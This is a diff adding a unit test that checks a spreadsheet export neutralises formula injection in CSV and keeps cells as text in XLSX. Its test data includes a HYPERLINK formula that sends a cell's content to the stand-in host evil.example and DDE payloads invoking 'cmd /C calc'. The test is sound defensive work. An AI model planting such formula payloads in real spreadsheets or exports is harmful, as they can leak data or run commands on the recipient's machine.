@@ -64,6 +64,35 @@ class ExportWritersTestCase(BaseTestCase):
         self.assertEqual(rows[1]["keywords"], "Famille | Parentalité")
         self.assertEqual(rows[1]["year"], "")
 
+    def test_it_neutralises_formulas_in_csv_and_keeps_them_text_in_xlsx(self):
+        hostile = [
+            '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
+            "+33 1 23 45 67 89",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ]
+        sheets = []
+        for text in hostile:
+            sheets.append(make_sheet(self.marais, text, summary=text, limits="sans danger"))
+        ids = [s.pk for s in sheets]
+        chosen = self.sheets().filter(pk__in=ids)
+        rows = exports.read_csv("".join(exports.write_csv(chosen)))
+        self.assertEqual([r["title"] for r in rows], ["'" + text for text in hostile])
+        self.assertEqual([r["summary"] for r in rows], ["'" + text for text in hostile])
+        self.assertEqual({r["limits"] for r in rows}, {"sans danger"})
+        # XLSX: the same cells are typed text (never a formula) and keep their value.
+        handle = exports.write_xlsx(chosen)
+        workbook = load_workbook(io.BytesIO(handle.read()))
+        title_cells = [row[1] for row in workbook.active.iter_rows(min_row=2)]
+        self.assertEqual(
+            # XML turns a carriage return into a line feed; the text is otherwise intact.
+            [c.value for c in title_cells],
+            [t.replace("\r", "\n") for t in hostile],
+        )
+        self.assertEqual({c.data_type for c in title_cells}, {"s"})
+
     def test_it_has_one_csv_column_per_field(self):
         header = next(exports.write_csv([]))
         self.assertIn("Ressources financières mobilisées pour cette action", header)
